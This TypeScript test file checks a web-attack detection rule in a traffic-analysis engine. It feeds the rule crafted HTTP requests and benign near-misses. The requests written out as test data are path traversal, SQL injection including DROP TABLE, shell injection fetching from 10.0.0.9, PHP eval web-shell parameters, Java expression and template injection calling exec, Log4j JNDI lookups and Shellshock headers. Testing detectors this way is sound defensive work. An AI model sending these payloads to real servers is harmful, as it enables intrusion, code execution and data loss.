/** Which requests attack a web server, and which only look strange. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { Rig } from '../../engine-testing.ts';
import { connection } from '../traffic-testing.ts';

function told(...requests: readonly string[]): string[] {
  const packets = requests.flatMap((request, i) => connection(`10.0.0.66:${5000 + i}`, '10.0.0.2:80', [['>', request]], i * 1_000_000)); // prettier-ignore
  const { alerts } = new Rig().add(packets).finish();
  return [...alerts.values()].filter(({ rule }) => rule === 'web-attack').map(({ evidence }) => evidence);
}

const get = (target: string, ...headers: readonly string[]): string =>
  [`GET ${target} HTTP/1.1`, 'Host: hmi.example', ...headers, '', ''].join('\r\n');

it('no request takes longer than others to be searched', () => {
  // What can be read in two ways at each step of a search would never come to its end here.
  const repeated = [['union', '/**/'], ['union', ' '], ['(){', ' '], ["'", ' '], ['?', '?..'], [';update a', ' '], ['<?php', ' '], ['javascript:', 'a'], ['${', ' '], ['|', '|'], ['/c99', '-'], ['{{', '{{'], ['${', '1'], ['#{', '1*'], ['{{', "'"], ['{{|', ' '], ['{{', '|filter('], ['{{', '{{.'], ['getRuntime', ' '], ['T', ' '], ['{{new', ' '], ['#set', ' ']]; // prettier-ignore
  for (const [first = '', again = ''] of repeated) {
    const text = first + again.repeat(Math.floor(3900 / again.length));
    told(get(`/?q=${text.replaceAll(' ', '+')}x`), get('/', `X: ${text}x`));
  }
});

describe('a request that attacks', () => {
  it.each([
    ['a path out of the web root', '/download?file=../../../../etc/hosts'],
    ['a path out of the web root', '/cgi/..%255c..%255c..%255cwindows/win.ini'],
    ['a condition for an SQL statement', '/item?id=7%27%20AND%20%271%27=%271'],
    ['a condition for an SQL statement', "/login?u=admin')+or+('1'='1"],
    ['a part of an SQL statement', '/item?id=-1+UNION/**/SELECT+null,version()'],
    ['an SQL statement', '/item?id=1;waitfor+delay+%270:0:5%27'],
    ['an SQL statement', '/item?id=1;DROP+TABLE+tags'],
    ['a command for a shell', '/setup.cgi?todo=ping&host=1.1.1.1;wget+http://10.0.0.9/x'],
    ['a command for a shell', '/diag?ip=$(cat%20/proc/version)'],
    ['a script', '/search?q=%3Cscript%3Ealert(1)%3C/script%3E'],
    ['code for PHP', '/index.php?-d+allow_url_include=1+-d+auto_prepend_file=php://input'],
    ['code for PHP', '/shell.php?z0=@eval(base64_decode($_POST[1]))'],
    ['code for PHP', '/shell.php?1=@eval(@str_rot13($_POST[2]))'],
    ['a web shell by its name', '/images/c99.php?d=/'],
    ['a command for a web shell', '/uploads/x.php?cmd=cat%20/etc/hostname'],
    ['an expression for a Java framework', '/fn?x=T(java.lang.Runtime).getRuntime()'],
    ['an expression for a Java framework', '/fn?x=%2523{T%2520(java.io.File)}'],
    ['an expression for a Java framework', '/%24%7B%40java.lang.System%40getenv()%7D/index.action'],
    ['an expression for a Java framework', '/eval?x=a.getRuntime().exec(%22id%22)'],
    [
      'a template to be filled in',
      '/ui/oauth/verify?deviceUdid=%24%7b%22%66reemarker.template.utility.Execute%22%3fnew()(%22id%22)%7d',
    ],
    [
      'a template to be filled in',
      '/ui/oauth/verify?%24%7b%22%66%72%65%65%6d%61%72%6b%65%72%2e%74%65%6d%70%6c%61%74%65%2e%75%74%69%6c%69%74%79%2e%45%78%65%63%75%74%65%22',
    ],
    ['a template to be filled in', '/hello?name={{7*7}}'],
    ['a template to be filled in', "/hello?name={{7*'7'}}"],
    ['a template to be filled in', '/hello?name=%23%7B%207%20*%207%20%7D'],
    ['a template to be filled in', '/hello?name=%3C%25=7*7%25%3E'],
    ['a template to be filled in', "/hello?name={{''.__class__.__mro__[1].__subclasses__()}}"],
    ['a template to be filled in', "/hello?name={{['id']|filter('system')}}"],
    ['an expression for a Java framework', '/hello?name=%24%7B%27%27.getClass().forName(%27x%27)%7D'],
    ['a template to be filled in', '/hello?name=%23set(%24x=1)'],
    ['an expression for a Java framework', '/show.action?redirect:%25%7B%28%23a%3D1%29%7D'],
  ])('says %s: %s', (what, target) => {
    expect(told(get(target))).toEqual([expect.stringContaining(what)]);
  });

  it.each([
    ['a lookup for Log4j', 'X-Api-Version: ${jndi:ldap://10.0.0.9/a}'],
    ['a lookup for Log4j', 'User-Agent: ${${lower:j}ndi:rmi://10.0.0.9/a}'],
    ['a function for a shell', 'Cookie: () { :; }; /bin/id'],
    ['an expression for a Java framework', "Content-Type: %{(#_='multipart/form-data')}"],
    ['a proxy for programs', 'Proxy: 203.0.113.9:8080'],
    ['encodings without end', `Accept-Encoding: ${'AAAA, '.repeat(80)}`],
    ['a range that overflows', 'Range: bytes=0-18446744073709551615'],
    ['calls itself nikto', 'User-Agent: Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)'],
    ['calls itself nmap scripting engine', 'User-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine)'],
  ])('has %s in a header: %s', (what, header) => {
    expect(told(get('/', header))).toEqual([expect.stringContaining(what)]);
  });

  it('is one in the form that it sends, and a lookup wherever it stands', () => {
    const post = (type: string, body: string): string =>
      `POST /exec HTTP/1.1\r\nHost: hmi\r\nContent-Type: ${type}\r\n\r\n${body}`;
    const form = 'application/x-www-form-urlencoded';
    expect(told(post(form, 'ip=127.0.0.1%3Bcat+/proc/version'))).toEqual([expect.stringContaining('a command for a shell')]); // prettier-ignore
    expect(told(post(form, 'ip=127.0.0.1&submit=ping'))).toEqual([]);
    expect(told(post('text/plain', 'name=${jndi:ldap://10.0.0.9/a}'))).toEqual([expect.stringContaining('Log4j')]); // prettier-ignore
  });

  it('is one alert however often it comes', () => {
    expect(told(get('/?q=<script>1'), get('/?q=<script>2'), get('/?q=<script>3'))).toHaveLength(1);
  });
});

it('the configuration of AD FS is told by what is read with it, whoever reads', () => {
  const post = (target: string): string[] => told(`POST ${target} HTTP/1.1\r\nHost: sts\r\nContent-Type: application/soap+xml\r\n\r\n<s:Envelope/>`); // prettier-ignore
  expect(post('/adfs/services/policystoretransfer')).toEqual([expect.stringContaining('as servers of its farm do')]); // prettier-ignore
  expect(post('/adfs/services/trust/2005/usernamemixed')).toEqual([]);
  expect(told(get('/adfs/services/policystoretransfer'))).toEqual([]);
});

describe('a request that does not', () => {
  it.each([
    '/',
    '/docs/../index.html',
    '/search?q=rock+and+roll',
    '/search?q=%22salt+or+pepper%22',
    '/select?from=2024-01-01&union=steel',
    '/shop?category=cat;sort=asc',
    '/goform/set?name=line+one&unit=%25',
    '/api/tags?filter=value%3E10&format=json',
    '/wiki/Script_(computing)?action=history',
    '/portal/onload=',
    '/players/2/../../3',
    '/tiles/{z}/{x}/{y}.png?size={{width}}',
    '/calc?expr=7*7&unit=${unit}',
    '/docs?page=freemarker&class=java.lang',
    '/list?fields={{name}}|sort(name)',
    '/adfs/services/trust/mex',
    '/news?what=a+new+java.+runtime',
    '/search?q=a.getclass+popen',
  ])('is left alone: %s', (target) => {
    expect(told(get(target))).toEqual([]);
  });

  it('may carry anything in its body, which is no form', () => {
    expect(told(`POST /wiki HTTP/1.1\r\nHost: hmi\r\n\r\ntext=<script>+union+select+../../etc/passwd`)).toEqual([]); // prettier-ignore
  });
});

it('whatever is asked for, nothing throws and evidence is bounded', () => {
  const target = fc.string({ unit: 'binary-ascii', maxLength: 300 });
  fc.assert(
    fc.property(target, (text) => {
      for (const evidence of told(get(`/${text}`))) expect(evidence.length).toBeLessThan(1400);
    }),
    { numRuns: 200 },
  );
});
